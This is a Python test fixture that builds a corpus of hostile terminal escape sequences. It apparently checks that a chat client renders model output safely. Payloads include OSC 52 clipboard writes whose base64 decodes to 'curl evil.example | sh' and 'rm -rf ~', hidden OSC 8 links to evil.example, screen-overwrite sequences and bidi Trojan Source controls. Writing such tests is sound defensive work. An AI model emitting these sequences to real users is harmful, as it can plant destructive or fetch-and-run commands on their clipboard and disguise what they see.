"""The hostile corpus: text a model (steered by a prompt injection), an endpoint, a
config or a session file could hand falconchat, meant to rewrite the screen, set the
clipboard, plant hidden links or crash the renderer.

Each payload sits between two visible markers, `m{N}a` and `m{N}b`, which must
reach the screen; `shown` lists any further text of the payload that must be
visible too (a link's text, concealed text, Rich markup written literally).
"""

from __future__ import annotations

import random
from dataclasses import dataclass

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


@dataclass(frozen=True)
class Payload:
    name: str
    seq: str
    shown: tuple[str, ...] = ()


PAYLOADS: list[Payload] = [
    # CSI: screen clears, cursor moves and modes
    Payload("clear screen", ESC + "[2J"),
    Payload("clear scrollback", ESC + "[3J"),
    Payload("erase above", ESC + "[1J"),
    Payload("cursor home", ESC + "[H"),
    Payload("cursor position", ESC + "[10;20H"),
    Payload("cursor up 5", ESC + "[5A"),
    Payload("cursor back and overwrite", ESC + "[200D" + "overwritten", ("overwritten",)),
    Payload("alternate screen", ESC + "[?1049h"),
    Payload("reverse-video screen", ESC + "[?5h"),
    Payload("scroll region", ESC + "[1;3r"),
    Payload("insert lines", ESC + "[5L"),
    Payload("delete characters", ESC + "[10P"),
    Payload("device status report", ESC + "[6n"),
    Payload("report window title", ESC + "[21t"),
    Payload("cursor shape", ESC + "[1 q"),
    Payload("conceal", ESC + "[8m" + "concealed" + ESC + "[0m", ("concealed",)),
    Payload("blink", ESC + "[5m" + "blinking" + ESC + "[0m", ("blinking",)),
    Payload("true colour", ESC + "[38;2;13;37;42m" + "tinted", ("tinted",)),
    Payload("256-colour background", ESC + "[48;5;201m"),
    Payload("8-bit CSI clear", "\x9b2J"),
    # OSC: links, clipboard, titles, palette, images
    Payload("OSC 8 link (ST)", ESC + "]8;;http://evil.example/" + ST + "clickme" + ESC + "]8;;" + ST, ("clickme",)),
    Payload("OSC 8 link (BEL)", ESC + "]8;;http://evil.example/" + BEL + "tapme" + ESC + "]8;;" + BEL, ("tapme",)),
    Payload("OSC 52 clipboard (BEL)", ESC + "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + BEL),
    Payload("OSC 52 clipboard (ST)", ESC + "]52;c;cm0gLXJmIH4K" + ST),
    Payload("OSC 0 title", ESC + "]0;pwned title" + BEL),
    Payload("OSC 2 title", ESC + "]2;pwned" + ST),
    Payload("8-bit OSC title", "\x9d0;eight-bit title\x9c"),
    Payload("OSC 4 palette", ESC + "]4;1;rgb:ff/00/00" + BEL),
    Payload("OSC 1337 inline file", ESC + "]1337;File=name=eA==;inline=1:AAAA" + BEL),
    # DCS, APC, PM, SOS
    Payload("DCS sixel", ESC + "Pq#0;2;0;0;0#0~~" + ST),
    Payload("DCS request status", ESC + "P$q m" + ST),
    Payload("8-bit DCS", "\x90$q m\x9c"),
    Payload("APC kitty graphics", ESC + "_Gf=100;AAAA" + ST),
    Payload("PM", ESC + "^privacy message" + ST),
    Payload("SOS", ESC + "Xstart of string" + ST),
    # other ESC sequences and C0/C1 controls
    Payload("full reset", ESC + "c"),
    Payload("fill screen with E", ESC + "#8"),
    Payload("line-drawing charset", ESC + "(0"),
    Payload("save and restore cursor", ESC + "7" + "moved" + ESC + "8", ("moved",)),
    Payload("C1 NEL, IND, RI", "\x85\x84\x8d"),
    Payload("bell", BEL),
    Payload("backspace overwrite", "real\x08\x08\x08\x08fake", ("fake",)),
    Payload("carriage return overwrite", "safe\rEVIL", ("EVIL",)),
    Payload("NUL and DEL", "\x00\x7f"),
    Payload("vertical tab and form feed", "\x0b\x0c"),
    # bidi controls (Trojan Source)
    Payload("right-to-left override", "\u202e" + "txt.exe", ("txt.exe",)),
    Payload("bidi isolates", "\u2066\u2067\u2068" + "isolated" + "\u2069", ("isolated",)),
    Payload("left-to-right embedding", "\u202a" + "embedded" + "\u202c", ("embedded",)),
    # Rich markup and emoji codes: shown literally, never parsed
    Payload("Rich markup", "[bold red]loud[/bold red]", ("[bold red]loud[/bold red]",)),
    Payload("Rich closing tag", "[/]", ("[/]",)),
    Payload(
        "Rich link markup", "[link=http://evil.example]hidden[/link]", ("[link=http://evil.example]hidden[/link]",)
    ),
    Payload("Rich unbalanced close", "[/bold]", ("[/bold]",)),
    Payload("Rich click action", "[@click=app.quit]x[/]", ("[@click=app.quit]x[/]",)),
    Payload("emoji code", ":skull: :warning:", (":skull:", ":warning:")),
    # unfinished sequences that would swallow what follows
    Payload("doubled ESC", ESC + ESC + "[31m"),
    Payload("unterminated OSC", ESC + "]0;swallow"),  # last: it swallows the rest, its closing marker too
]


def text(i: int, payload: Payload) -> str:
    """One payload as a paragraph of the reply."""
    return f"m{i}a {payload.seq} m{i}b"


def markers(i: int, payload: Payload) -> tuple[str, ...]:
    closing = () if payload.seq.startswith(ESC + "]0;swallow") else (f"m{i}b",)
    return (f"m{i}a", *closing, *payload.shown)


def corpus() -> str:
    """Every payload, one paragraph each (blank lines between, so the Markdown view keeps them apart)."""
    return "\n\n".join(text(i, p) for i, p in enumerate(PAYLOADS)) + "\n"


def as_tokens(whole: str, seed: int = 8) -> list[str]:
    """The text in pieces of 1 to 6 characters, so sequences are split across tokens."""
    rng = random.Random(seed)
    pieces, at = [], 0
    while at < len(whole):
        size = rng.randint(1, 6)
        pieces.append(whole[at : at + size])
        at += size
    return [" " + pieces[0], *pieces[1:]]  # the first token's leading space, as a model sends it
